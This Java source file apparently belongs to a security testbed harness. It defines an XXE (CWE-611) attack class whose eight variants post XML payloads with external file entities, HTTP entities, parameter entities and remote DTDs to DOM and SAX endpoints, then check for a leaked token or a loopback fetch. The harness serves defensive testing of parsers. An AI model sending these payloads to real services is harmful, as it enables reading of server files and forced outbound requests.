package secplane.testbeds.attacks.injection;

import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.UUID;
import secplane.testbeds.attacks.AttackResult;
import secplane.testbeds.attacks.Testbed;

/**
 * XML external entities (CWE-611) in the documents posted to {@code /xml/parse} (DOM) and
 * {@code /xml/sax} (SAX). The attacker writes a file with a fresh token and serves a DTD from a
 * loopback {@link InternalService}. Evidence: the token in the response (the parser read the
 * attacker-named file into the document) or a request to the service (the parser fetched an
 * external entity or DTD).
 */
public final class XxeAttack extends InjectionAttack {

    public enum Variant implements InjectionVariant {
        /** An external general entity with a {@code file:} URL, expanded into the text. */
        FILE_ENTITY("/xml/parse", "<!DOCTYPE r [<!ENTITY x SYSTEM \"file://<file>\">]><r>&x;</r>"),
        /** An external general entity with an {@code http:} URL: out-of-band. */
        HTTP_ENTITY("/xml/parse", "<!DOCTYPE r [<!ENTITY x SYSTEM \"http://127.0.0.1:<port>/<path>\">]><r>&x;</r>"),
        /** A parameter entity loading a remote DTD that declares the file entity. */
        PARAMETER_ENTITY("/xml/parse", "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://127.0.0.1:<port>/<path>.dtd\"> %p;]><r>&leak;</r>"),
        /** A remote external DTD subset, fetched even though nothing is validated. */
        EXTERNAL_DTD("/xml/parse", "<!DOCTYPE r SYSTEM \"http://127.0.0.1:<port>/<path>.dtd\"><r>&leak;</r>"),
        SAX_FILE_ENTITY("/xml/sax", FILE_ENTITY.payload),
        SAX_HTTP_ENTITY("/xml/sax", HTTP_ENTITY.payload),
        SAX_PARAMETER_ENTITY("/xml/sax", PARAMETER_ENTITY.payload),
        SAX_EXTERNAL_DTD("/xml/sax", EXTERNAL_DTD.payload);

        private final String endpoint;
        private final String payload;

        Variant(String endpoint, String payload) {
            this.endpoint = endpoint;
            this.payload = payload;
        }

        @Override
        public String endpoint() {
            return endpoint;
        }

        @Override
        public String payload() {
            return payload;
        }

        boolean readsFile() {
            return this == FILE_ENTITY || this == SAX_FILE_ENTITY;
        }
    }

    @Override
    public Category category() {
        return Category.XXE;
    }

    @Override
    public List<Variant> variants() {
        return List.of(Variant.values());
    }

    @Override
    public AttackResult fire(Testbed target, InjectionVariant injectionVariant, Twin twin) throws Exception {
        Variant variant = own(Variant.class, injectionVariant);
        String token = "xxe-token-" + UUID.randomUUID();
        Path file = Files.createTempDirectory("secplane-xxe-").resolve("token.txt");
        Files.writeString(file, token);
        try (InternalService internal = InternalService.start()) {
            String unique = "xxe/" + variant.name().toLowerCase() + "-" + UUID.randomUUID();
            internal.serve("/" + unique + ".dtd", "<!ENTITY leak SYSTEM \"file://" + file + "\">\n");
            String document = variant.payload()
                    .replace("<file>", file.toString())
                    .replace("<port>", String.valueOf(internal.port()))
                    .replace("<path>", unique);
            HttpResponse<String> response = post(target, twin.path(variant.endpoint()), "application/xml", document);
            boolean leaked = response.body().contains(token);
            boolean hit = !variant.readsFile() && internal.hits().stream().anyMatch(h -> h.path().startsWith("/" + unique));
            boolean exploited = leaked || hit;
            String evidence = exploited
                    ? (hit ? "the parser fetched " + internal.hits().get(0).path() + " from the internal service" : "")
                            + (hit && leaked ? "; " : "")
                            + (leaked ? "the response holds the token of " + file : "")
                    : "no token and no fetch (" + abbreviate(response.body()) + ")";
            return result(variant, twin, exploited, response.statusCode(), evidence);
        } finally {
            deleteMarker(file);
        }
    }
}
